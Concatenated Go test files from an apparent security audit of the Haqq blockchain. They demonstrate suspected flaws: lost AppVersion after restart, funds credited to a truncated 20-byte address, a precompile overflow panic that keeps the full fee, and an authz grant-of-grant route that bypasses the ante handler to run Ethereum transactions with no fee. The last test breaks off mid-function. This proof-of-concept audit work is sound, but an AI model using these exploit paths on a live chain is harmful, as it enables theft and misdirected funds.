	sdk "github.com/cosmos/cosmos-sdk/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"

	"github.com/haqq-network/haqq/app"
)

// Property C20: a node that is stopped after committing a block and restarted from its database reports the
// same Info() as a node that never stopped. After a software upgrade ran (x/upgrade bumps the protocol version,
// stores it in its own store AND sets it on BaseApp), the continuous node reports AppVersion 1 in Info(); the
// node rebuilt from the very same committed state reports 0: the field is process-local and nothing in NewHaqq
// restores it from the value x/upgrade persisted.
func TestZZInfoAppVersionAfterRestart(t *testing.T) {
	cont := &zzNode{name: "continuous", db: dbm.NewMemDB()}
	rest := &zzNode{name: "restarted", db: dbm.NewMemDB(), restart: true}
	cont.app = zzNewApp(cont.db)
	rest.app = zzNewApp(rest.db)

	gs := app.NewTestGenesisState(cont.app.AppCodec())
	stateBytes, err := json.Marshal(gs)
	require.NoError(t, err)
	genesisTime := time.Unix(1700000000, 0).UTC()
	for _, n := range []*zzNode{cont, rest} {
		n.app.InitChain(abci.RequestInitChain{
			ChainId: zzChainID, ConsensusParams: app.DefaultConsensusParams, AppStateBytes: stateBytes, Time: genesisTime,
		})
	}

	var lastHash []byte
	runBlock := func(height int64, mutate func(n *zzNode, ctx sdk.Context)) {
		header := tmproto.Header{
			ChainID: zzChainID, Height: height, Time: genesisTime.Add(time.Duration(height) * 6 * time.Second), AppHash: lastHash,
		}
		for _, n := range []*zzNode{cont, rest} {
			n.app.BeginBlock(abci.RequestBeginBlock{Header: header})
			if mutate != nil {
				mutate(n, n.app.BaseApp.NewContext(false, header))
			}
			n.app.EndBlock(abci.RequestEndBlock{Height: height})
			n.app.Commit()
			// the "restarted" node is stopped here and rebuilt from its database
			n.maybeRestart()
		}
		ic, ir := cont.app.Info(abci.RequestInfo{}), rest.app.Info(abci.RequestInfo{})
		t.Logf("height %d: continuous Info{height=%d appHash=%X appVersion=%d}  restarted Info{height=%d appHash=%X appVersion=%d}",
			height, ic.LastBlockHeight, ic.LastBlockAppHash, ic.AppVersion, ir.LastBlockHeight, ir.LastBlockAppHash, ir.AppVersion)
		require.Equal(t, ic.LastBlockHeight, ir.LastBlockHeight, "height %d: Info().LastBlockHeight", height)
		require.Equal(t, ic.LastBlockAppHash, ir.LastBlockAppHash, "height %d: Info().LastBlockAppHash", height)
		require.Equal(t, ic.AppVersion, ir.AppVersion,
			"height %d: Info().AppVersion of the node restarted from its database differs from the node that kept running", height)
		lastHash = ic.LastBlockAppHash
	}

	runBlock(1, nil)
	// a passed software upgrade proposal: plan "v1.8.2" (handler registered in this binary) for the next block
	runBlock(2, func(n *zzNode, ctx sdk.Context) {
		require.NoError(t, n.app.UpgradeKeeper.ScheduleUpgrade(ctx, upgradetypes.Plan{Name: "v1.8.2", Height: 3}))
	})
	// the upgrade runs in BeginBlock of height 3; the restarted node is rebuilt after the commit
	runBlock(3, nil)
	runBlock(4, nil)
}
