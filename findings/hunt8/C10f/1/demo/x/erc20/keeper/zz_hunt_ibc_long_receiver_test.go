package keeper_test

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	icatypes "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/contracts"
	teststypes "github.com/haqq-network/haqq/types/tests"
	bankkeeper "github.com/haqq-network/haqq/x/bank/keeper"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
)

// An ICS-20 transfer of a registered voucher to an interchain account hosted on
// Haqq (interchain accounts, like every address.Derive/address.Module account,
// have 32-byte addresses). The automatic conversion on receive must credit the
// receiver with the same amount in the other representation, or do nothing.
func (suite *KeeperTestSuite) TestZZHuntIBCRecvToInterchainAccount() {
	suite.suiteIBCTesting = true
	suite.SetupTest()
	suite.suiteIBCTesting = false
	// leave the plain (non-IBC) fixture behind for whatever runs after this test
	defer suite.SetupTest()

	const amount = int64(10)
	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI

	osmoMeta := banktypes.Metadata{
		Description: "IBC Coin for IBC Osmosis Chain",
		Base:        teststypes.UosmoIbcdenom,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: teststypes.UosmoDenomtrace.BaseDenom, Exponent: 0},
		},
		Name:    teststypes.UosmoIbcdenom,
		Symbol:  erc20Symbol,
		Display: teststypes.UosmoDenomtrace.BaseDenom,
	}
	pair, err := s.app.Erc20Keeper.RegisterCoin(s.HaqqChain.GetContext(), osmoMeta)
	suite.Require().NoError(err)
	contract := pair.GetERC20Contract()

	// the interchain account, created the way the ICA host creates it
	ctx := s.HaqqChain.GetContext()
	icaAddr := icatypes.GenerateAddress(ctx, "connection-0", "icacontroller-cosmos1owner")
	suite.Require().Len(icaAddr.Bytes(), 32)
	ica := icatypes.NewInterchainAccount(
		authtypes.NewBaseAccountWithAddress(icaAddr), "icacontroller-cosmos1owner",
	)
	s.app.AccountKeeper.SetAccount(ctx, s.app.AccountKeeper.NewAccount(ctx, ica))
	s.HaqqChain.Coordinator.CommitBlock()

	// the 20-byte address the code derives from it: another account altogether
	truncated := common.BytesToAddress(icaAddr.Bytes())
	suite.Require().False(sdk.AccAddress(truncated.Bytes()).Equals(icaAddr))

	sender := s.IBCOsmosisChain.SenderAccount.GetAddress()
	senderBefore := s.IBCOsmosisChain.GetSimApp().BankKeeper.GetBalance(s.IBCOsmosisChain.GetContext(), sender, "uosmo")
	escrowBefore := s.app.BankKeeper.GetBalance(s.HaqqChain.GetContext(), s.app.AccountKeeper.GetModuleAddress("erc20"), teststypes.UosmoIbcdenom)

	suite.SendAndReceiveMessage(s.pathOsmosisHaqq, s.IBCOsmosisChain, "uosmo", amount, sender.String(), icaAddr.String(), 1, "")

	ctx = s.HaqqChain.GetContext()
	senderAfter := s.IBCOsmosisChain.GetSimApp().BankKeeper.GetBalance(s.IBCOsmosisChain.GetContext(), sender, "uosmo")
	icaCoins := s.app.BankKeeper.GetBalance(ctx, icaAddr, teststypes.UosmoIbcdenom)
	escrowAfter := s.app.BankKeeper.GetBalance(ctx, s.app.AccountKeeper.GetModuleAddress("erc20"), teststypes.UosmoIbcdenom)
	strangerTokens := s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, contract, truncated)

	suite.T().Logf("osmosis sender debited: %s", senderBefore.Amount.Sub(senderAfter.Amount))
	suite.T().Logf("interchain account %s coins: %s", icaAddr, icaCoins)
	suite.T().Logf("erc20 escrow delta: %s", escrowAfter.Amount.Sub(escrowBefore.Amount))
	suite.T().Logf("tokens of unrelated 20-byte address %s: %s", truncated, strangerTokens)

	// what the interchain account can do with "its" funds afterwards (cache context: no effect on the checks below)
	{
		cctx, _ := ctx.CacheContext()
		someone := sdk.AccAddress(suite.address.Bytes())
		send := banktypes.NewMsgSend(icaAddr, someone, sdk.NewCoins(sdk.NewInt64Coin(teststypes.UosmoIbcdenom, amount)))
		_, err := s.app.MsgServiceRouter().Handler(send)(cctx, send)
		suite.T().Logf("MsgSend of the 10 vouchers signed by the interchain account: err = %v", err)

		cctx, _ = ctx.CacheContext()
		conv := erc20types.NewMsgConvertERC20(sdk.NewInt(amount), icaAddr, contract, truncated)
		suite.T().Logf("MsgConvertERC20 for the tokens must be signed by %s, the interchain account is %s",
			conv.GetSigners()[0], icaAddr)

		q, err := bankkeeper.NewWrappedBaseKeeper(s.app.BankKeeper, s.app.Erc20Keeper, s.app.AccountKeeper).
			Balance(sdk.WrapSDKContext(cctx), &banktypes.QueryBalanceRequest{Address: icaAddr.String(), Denom: teststypes.UosmoIbcdenom})
		suite.Require().NoError(err)
		suite.T().Logf("bank Query/Balance of the interchain account: %s", q.Balance)
	}

	// the packet was accepted: the sender paid
	suite.Require().Equal(amount, senderBefore.Amount.Sub(senderAfter.Amount).Int64())

	// A 32-byte account has no EVM address, so the only representation it can
	// hold is the coin. Either nothing was converted (it holds the 10 coins) or
	// the conversion credited it; in no case may another account be credited.
	suite.Require().Equal(int64(0), strangerTokens.Int64(),
		"tokens minted to an address that is not the receiver of the packet")
	suite.Require().Equal(amount, icaCoins.Amount.Int64(),
		"receiver of the packet was debited by the conversion and credited nothing")
}
