package keeper_test

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/address"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/testutil"
)

// bank MsgSend of a registered coin to an account with a 32-byte address
// (interchain accounts, group policies and every other address.Module /
// address.Derive account). The wrapper converts the sender's coins and moves
// ERC-20 tokens; the recipient named in the message must end up owning the
// amount in one of the two representations, or the message must fail.
func (suite *KeeperTestSuite) TestZZHuntSendRegisteredCoinToLongAddress() {
	suite.SetupTest()
	ctx := suite.ctx
	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI

	const denom = "acoin"
	meta := banktypes.Metadata{
		Description: "a registered native coin",
		Base:        denom,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: denom, Exponent: 0},
			{Denom: "coin", Exponent: 18},
		},
		Name:    denom,
		Symbol:  "COIN",
		Display: "coin",
	}

	from := sdk.AccAddress(suite.address.Bytes())
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, from, sdk.NewCoins(sdk.NewInt64Coin(denom, 1000))))
	pair, err := suite.app.Erc20Keeper.RegisterCoin(ctx, meta)
	suite.Require().NoError(err)
	contract := pair.GetERC20Contract()

	// a 32-byte account address
	to := sdk.AccAddress(address.Module("interchainaccounts", []byte("some-owner")))
	suite.Require().Len(to.Bytes(), 32)
	truncated := common.BytesToAddress(to.Bytes())
	suite.Require().False(sdk.AccAddress(truncated.Bytes()).Equals(to))

	msg := banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin(denom, 100)))
	suite.Require().NoError(msg.ValidateBasic())
	_, err = suite.app.MsgServiceRouter().Handler(msg)(ctx, msg)
	suite.Require().NoError(err, "MsgSend reported success")

	fromCoins := suite.app.BankKeeper.GetBalance(ctx, from, denom).Amount
	fromTokens := suite.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, contract, suite.address)
	toCoins := suite.app.BankKeeper.GetBalance(ctx, to, denom).Amount
	strangerTokens := suite.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, contract, truncated)

	suite.T().Logf("sender: %s coins + %s tokens (had 1000 coins)", fromCoins, fromTokens)
	suite.T().Logf("recipient %s: %s coins", to, toCoins)
	suite.T().Logf("unrelated 20-byte address %s: %s tokens", truncated, strangerTokens)

	// the sender paid 100
	suite.Require().Equal(int64(900), fromCoins.Int64()+fromTokens.Int64())
	// a 32-byte account has no EVM address: it can only be paid in coins
	suite.Require().Equal(int64(0), strangerTokens.Int64(),
		"tokens credited to an address that is not the recipient of the MsgSend")
	suite.Require().Equal(int64(100), toCoins.Int64(),
		"MsgSend succeeded, the sender was debited and the recipient received nothing")
}
