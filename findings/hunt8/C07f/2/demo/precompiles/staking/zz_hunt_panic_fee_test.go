package staking_test

import (
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"

	haqqapp "github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/precompiles/staking"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C07: for an Ethereum transaction the sender's net payment is exactly gasUsed x effectiveGasPrice,
// gasUsed being the figure of the DeliverTx response (<= gasLimit); the fee collector receives exactly that
// amount and the rest of the up-front deduction returns to the sender - for every execution outcome.
//
// An EOA that has a delegation calls staking.undelegate(self, validator, amount) on the precompile 0x..0800:
//   - amount = 2 x its delegation: x/staking returns an error, the call frame fails, all 200000 gas are
//     used: the sender pays 200000 x price and the response says gas_used=200000  (identity holds);
//   - amount = 2^256-1: x/staking's Validator.SharesFromTokens multiplies a LegacyDec by the amount and panics
//     ("Int overflow"). The precompile only contains out-of-gas panics (common.HandleGasError re-panics
//     everything else), nothing in the EVM / x/evm recovers, so the panic travels up to baseapp.runTx. The
//     response says gas_used=0 - and the sender has paid for all 200000 gas, nothing is refunded.
func (s *PrecompileTestSuite) TestZZHuntPanicInPrecompileKeepsWholeUpfrontFee() {
	ctx := s.app.BaseApp.NewContext(false, s.ctx.BlockHeader())
	txCfg := encoding.MakeConfig(haqqapp.ModuleBasics).TxConfig
	feeCollector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
	precompileAddr := s.precompile.Address()
	valAddr := s.validators[0].OperatorAddress

	delegation, found := s.app.StakingKeeper.GetDelegation(ctx, s.address.Bytes(), s.validators[0].GetOperator())
	s.Require().True(found, "the sender has a delegation to the validator")
	delegated := s.validators[0].TokensFromShares(delegation.Shares).TruncateInt().BigInt()

	baseFee := s.app.FeeMarketKeeper.GetBaseFee(ctx)
	s.Require().NotNil(baseFee)
	gasPrice := new(big.Int).Set(baseFee)
	s.Require().Equal(1, gasPrice.Sign())
	const gasLimit = uint64(200_000)

	balanceOf := func(addr sdk.AccAddress) *big.Int {
		return s.app.BankKeeper.GetBalance(ctx, addr, utils.BaseDenom).Amount.BigInt()
	}

	type outcome struct {
		res                       abci.ResponseDeliverTx
		senderPaid, collectorKept *big.Int
	}
	undelegate := func(amount *big.Int) outcome {
		input, err := s.precompile.Pack(staking.UndelegateMethod, s.address, valAddr, amount)
		s.Require().NoError(err)
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:  s.app.EvmKeeper.ChainID(),
			Nonce:    s.app.EvmKeeper.GetNonce(ctx, s.address),
			To:       &precompileAddr,
			GasLimit: gasLimit,
			GasPrice: gasPrice,
			Input:    input,
		})
		msg.From = s.address.Hex()
		tx, err := testutiltx.PrepareEthTx(txCfg, s.app, s.privKey, msg)
		s.Require().NoError(err)
		bz, err := txCfg.TxEncoder()(tx)
		s.Require().NoError(err)

		s0, c0 := balanceOf(s.address.Bytes()), balanceOf(feeCollector)
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		s1, c1 := balanceOf(s.address.Bytes()), balanceOf(feeCollector)
		return outcome{res, new(big.Int).Sub(s0, s1), new(big.Int).Sub(c1, c0)}
	}
	checkIdentity := func(name string, o outcome) {
		s.T().Logf("%s: code=%d codespace=%q gas_wanted=%d gas_used=%d sender paid %s, fee collector kept %s (gas price %s) log=%.160q",
			name, o.res.Code, o.res.Codespace, o.res.GasWanted, o.res.GasUsed, o.senderPaid, o.collectorKept, gasPrice, o.res.Log)
		s.Require().LessOrEqual(o.res.GasUsed, int64(gasLimit), name+": gas used never exceeds the gas limit")
		expected := new(big.Int).Mul(big.NewInt(o.res.GasUsed), gasPrice)
		s.Require().Equal(expected.String(), o.senderPaid.String(),
			"%s: sender's net payment must be gasUsed (%d) x gasPrice (%s); the whole up-front deduction is %s",
			name, o.res.GasUsed, gasPrice, new(big.Int).Mul(new(big.Int).SetUint64(gasLimit), gasPrice))
		s.Require().Equal(expected.String(), o.collectorKept.String(), name+": fee collector must keep gasUsed x gasPrice")
	}

	// control: an amount the delegation does not cover - an ordinary failing call
	control := undelegate(new(big.Int).Mul(delegated, big.NewInt(2)))
	s.Require().Equal(uint32(0), control.res.Code, control.res.Log)
	checkIdentity("undelegate(2 x delegation)", control)

	// the same call with the largest uint256
	maxUint256 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	checkIdentity("undelegate(2^256-1)", undelegate(maxUint256))
}
