package keeper_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/module"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	ucdaokeeper "github.com/haqq-network/haqq/x/ucdao/keeper"
	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

func zzCoins(n int64) sdk.Coins { return sdk.NewCoins(sdk.NewInt64Coin("aISLM", n)) }

func TestZZRoundTrip(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	a, _ := app.Setup(false, nil, chainID)
	a.Commit()

	t0 := time.Now().UTC().Truncate(time.Second)
	header := testutil.NewHeader(2, t0, chainID, sdk.ConsAddress(tests.GenerateAddress().Bytes()), nil, nil)
	vals := a.StakingKeeper.GetAllValidators(a.NewContext(true, tmproto.Header{Height: 1}))
	require.Len(t, vals, 1)
	consAddr, _ := vals[0].GetConsAddr()
	header.ProposerAddress = consAddr
	a.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := a.BaseApp.NewContext(false, header)

	funder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	v1 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	v2 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	l1 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	r1 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	d2 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	nf := sdk.AccAddress(tests.GenerateAddress().Bytes())

	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, funder, zzCoins(100_000_000)))
	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, r1, zzCoins(10)))
	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, nf, zzCoins(10)))
	require.NoError(t, a.LiquidVestingKeeper.SetParams(ctx, types.NewParams(sdk.NewInt(1_000_000), true)))

	third := zzCoins(1_000_000)
	lockup := sdkvesting.Periods{{Length: 100, Amount: third}, {Length: 100, Amount: third}, {Length: 100, Amount: third}}
	vest := sdkvesting.Periods{{Length: 0, Amount: zzCoins(3_000_000)}}

	wctx := sdk.WrapSDKContext(ctx)
	// V1: instant vesting, 3 lockup periods
	_, err := a.VestingKeeper.ConvertIntoVestingAccount(wctx, vestingtypes.NewMsgConvertIntoVestingAccount(funder, v1, t0.Add(-10*time.Second), lockup, vest, false, false, nil))
	require.NoError(t, err)
	// V2: vesting in progress
	vest2 := sdkvesting.Periods{{Length: 50, Amount: third}, {Length: 100, Amount: third}, {Length: 100, Amount: third}}
	_, err = a.VestingKeeper.CreateClawbackVestingAccount(wctx, vestingtypes.NewMsgCreateClawbackVestingAccount(funder, v2, t0.Add(-10*time.Second), lockup, vest2, false))
	require.NoError(t, err)

	// Liquidate 1.5M from V1 to L1
	_, err = a.LiquidVestingKeeper.Liquidate(wctx, types.NewMsgLiquidate(v1, l1, sdk.NewInt64Coin("aISLM", 1_500_000)))
	require.NoError(t, err)
	// second liquidation -> aLIQUID1, to L1
	_, err = a.LiquidVestingKeeper.Liquidate(wctx, types.NewMsgLiquidate(v1, l1, sdk.NewInt64Coin("aISLM", 1_000_000)))
	require.NoError(t, err)
	// Redeem partially aLIQUID0 -> R1
	_, err = a.LiquidVestingKeeper.Redeem(wctx, types.NewMsgRedeem(l1, r1, sdk.NewInt64Coin("aLIQUID0", 400_000)))
	require.NoError(t, err)
	// Redeem all aLIQUID1 -> V2 (a vesting account with another funder)
	_, err = a.LiquidVestingKeeper.Redeem(wctx, types.NewMsgRedeem(l1, v2, sdk.NewInt64Coin("aLIQUID1", 1_000_000)))
	require.NoError(t, err)

	// DAO: fund with aISLM and aLIQUID0
	pair, found := a.Erc20Keeper.GetTokenPair(ctx, a.Erc20Keeper.GetTokenPairID(ctx, "aLIQUID0"))
	require.True(t, found)
	_, err = a.Erc20Keeper.ConvertERC20(wctx, erc20types.NewMsgConvertERC20(sdk.NewInt(300_000), l1, pair.GetERC20Contract(), common.BytesToAddress(l1)))
	require.NoError(t, err)
	dao := ucdaokeeper.NewMsgServerImpl(a.DaoKeeper)
	_, err = dao.Fund(wctx, ucdaotypes.NewMsgFund(zzCoins(5_000), funder))
	require.NoError(t, err)
	_, err = dao.Fund(wctx, ucdaotypes.NewMsgFund(sdk.NewCoins(sdk.NewInt64Coin("aLIQUID0", 300_000)), l1))
	require.NoError(t, err)
	_, err = dao.TransferOwnershipWithRatio(wctx, ucdaotypes.NewMsgTransferOwnershipWithRatio(l1, d2, sdk.NewDecWithPrec(3, 1)))
	require.NoError(t, err)
	_, err = dao.TransferOwnership(wctx, ucdaotypes.NewMsgTransferOwnership(funder, d2))
	require.NoError(t, err)

	// V3: fully liquidated
	v3 := sdk.AccAddress(tests.GenerateAddress().Bytes())
	_, err = a.VestingKeeper.ConvertIntoVestingAccount(wctx, vestingtypes.NewMsgConvertIntoVestingAccount(funder, v3, t0.Add(-10*time.Second), lockup, vest, false, false, nil))
	require.NoError(t, err)
	_, err = a.LiquidVestingKeeper.Liquidate(wctx, types.NewMsgLiquidate(v3, v3, sdk.NewInt64Coin("aISLM", 3_000_000)))
	require.NoError(t, err)
	// delegate from V2
	_, err = a.StakingKeeper.Delegate(ctx, v2, sdk.NewInt(200_000), 1, vals[0], true)
	require.NoError(t, err)
	// update funder of V2
	_, err = a.VestingKeeper.UpdateVestingFunder(wctx, vestingtypes.NewMsgUpdateVestingFunder(funder, nf, v2))
	require.NoError(t, err)

	// next block, 130 s later
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, a, 130*time.Second, nil)
	require.NoError(t, err)
	wctx = sdk.WrapSDKContext(ctx)
	// clawback V2 mid-vesting
	_, err = a.VestingKeeper.Clawback(wctx, vestingtypes.NewMsgClawback(nf, v2, nil))
	require.NoError(t, err)

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, a, 5*time.Second, nil)
	require.NoError(t, err)
	a.EndBlocker(ctx, abci.RequestEndBlock{Height: ctx.BlockHeight()})
	a.Commit()

	exp, err := a.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)

	{
		var gs map[string]json.RawMessage
		require.NoError(t, json.Unmarshal(exp.AppState, &gs))
		enc := encoding.MakeConfig(app.ModuleBasics)
		for name, mb := range app.ModuleBasics {
			hg, ok := mb.(module.HasGenesisBasics)
			if !ok {
				continue
			}
			if err := hg.ValidateGenesis(enc.Codec, enc.TxConfig, gs[name]); err != nil {
				t.Logf("EXPORTED GENESIS FAILS VALIDATION [%s]: %v", name, err)
			}
		}
	}
	b := app.NewHaqq(log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics), simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome), baseapp.SetChainID(chainID))
	b.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		Time:            ctx.BlockTime(),
		InitialHeight:   exp.Height,
		ConsensusParams: exp.ConsensusParams,
		AppStateBytes:   exp.AppState,
	})
	b.Commit()

	exp2, err := b.ExportAppStateAndValidators(false, nil, nil)
	require.NoError(t, err)
	if !bytes.Equal(exp.AppState, exp2.AppState) {
		t.Logf("exports differ: %d vs %d bytes", len(exp.AppState), len(exp2.AppState))
	}

	ca := a.NewContext(true, tmproto.Header{Height: a.LastBlockHeight()})
	cb := b.NewContext(true, tmproto.Header{Height: b.LastBlockHeight()})
	for _, name := range []string{"acc", "bank", "evm", "erc20", "feemarket", "liquidvesting", "ucdao", "coinomics", "epochs", "vesting", "staking", "distribution", "params", "gov", "slashing", "mint"} {
		ka, kb := a.GetKey(name), b.GetKey(name)
		if ka == nil {
			t.Logf("no store %s", name)
			continue
		}
		ma := map[string][]byte{}
		it := ca.KVStore(ka).Iterator(nil, nil)
		for ; it.Valid(); it.Next() {
			ma[string(it.Key())] = append([]byte{}, it.Value()...)
		}
		it.Close()
		mb := map[string][]byte{}
		it = cb.KVStore(kb).Iterator(nil, nil)
		for ; it.Valid(); it.Next() {
			mb[string(it.Key())] = append([]byte{}, it.Value()...)
		}
		it.Close()
		n := 0
		for k, va := range ma {
			vb, ok := mb[k]
			if !ok {
				n++
				t.Logf("[%s] key %x only before: %x", name, k, zzTrunc(va))
			} else if !bytes.Equal(va, vb) {
				n++
				t.Logf("[%s] key %x differs:\n   before %x\n   after  %x", name, k, zzTrunc(va), zzTrunc(vb))
			}
		}
		for k, vb := range mb {
			if _, ok := ma[k]; !ok {
				n++
				t.Logf("[%s] key %x only after: %x", name, k, zzTrunc(vb))
			}
		}
		t.Logf("store %s: %d keys before, %d after, %d diffs", name, len(ma), len(mb), n)
	}
	exp0, err := a.ExportAppStateAndValidators(true, nil, nil)
	require.NoError(t, err)
	c := app.NewHaqq(log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics), simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome), baseapp.SetChainID(chainID))
	c.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		Time:            ctx.BlockTime(),
		InitialHeight:   exp0.Height,
		ConsensusParams: exp0.ConsensusParams,
		AppStateBytes:   exp0.AppState,
	})
	c.Commit()
	fmt.Println("done")
}

func zzTrunc(b []byte) []byte {
	if len(b) > 200 {
		return b[:200]
	}
	return b
}
