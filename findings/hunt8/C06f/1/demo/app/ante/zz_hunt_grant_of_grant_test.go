package ante_test

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	"github.com/cosmos/gogoproto/proto"
	icahost "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/host"
	icahosttypes "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/host/types"
	icatypes "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/types"
	clienttypes "github.com/cosmos/ibc-go/v7/modules/core/02-client/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C06: an Ethereum transaction message is executed only through the Ethereum route of the ante
// handler; message types barred from delegation-by-grant (MsgEthereumTx, MsgExec) can be neither granted
// nor executed through nested grants.
//
// The ante handler bars grants of MsgEthereumTx and of MsgExec, but not grants of MsgGrant ("grant on my
// behalf"). A grantee whose messages are dispatched by the message router without the ante handler (an
// interchain account on the ICA host) uses that grant to give itself the barred MsgEthereumTx grant in the
// granter's name, and then runs the granter's MsgEthereumTx with no fee, no nonce rule, and a gas refund paid
// out of the fee collector.
func (suite *AnteTestSuite) TestZZHuntGrantOfMsgGrantReopensEthereumMsgBypass() {
	require := suite.Require()
	app := suite.app
	ctx := suite.ctx

	const (
		connID         = "connection-0"
		controllerPort = icatypes.ControllerPortPrefix + "attacker"
		hostChannel    = "channel-0"
	)

	one := sdkmath.NewIntWithDecimal(1, 18)

	// V: an ordinary account with an Ethereum key. I: an interchain account controlled from another chain.
	vAddr, vPriv := testutiltx.NewAccAddressAndKey()
	vHex := common.BytesToAddress(vAddr)
	recipient := testutiltx.GenerateAddress()
	iAddr := icatypes.GenerateAddress(ctx, connID, controllerPort)

	require.NoError(testutil.FundAccount(ctx, app.BankKeeper, vAddr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(10)))))

	// the suite's header names a random proposer; use the genesis validator so that the EVM finds its coinbase
	vals := app.StakingKeeper.GetAllValidators(ctx)
	require.NotEmpty(vals)
	valCons, err := vals[0].GetConsAddr()
	require.NoError(err)
	hdr := ctx.BlockHeader()
	hdr.ProposerAddress = valCons
	ctx = ctx.WithBlockHeader(hdr)

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, app, time.Second, nil)
	require.NoError(err)

	// --- the ante handler bars the two grants that the property names ...
	exp := ctx.BlockTime().Add(time.Hour)
	for _, barred := range []string{sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{}), sdk.MsgTypeURL(&authz.MsgExec{})} {
		g, err := authz.NewMsgGrant(vAddr, iAddr, authz.NewGenericAuthorization(barred), &exp)
		require.NoError(err)
		_, err = testutil.DeliverTx(ctx, app, vPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, g)
		require.Error(err, "grant of %s must be refused by the ante handler", barred)
	}

	// --- ... but V can delegate "grant on my behalf" to the interchain account, through the ante handler.
	grantOfGrant, err := authz.NewMsgGrant(vAddr, iAddr, authz.NewGenericAuthorization(sdk.MsgTypeURL(&authz.MsgGrant{})), &exp)
	require.NoError(err)
	_, err = testutil.DeliverTx(ctx, app, vPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, grantOfGrant)
	if err != nil {
		// the property holds at the first step: nothing below can happen
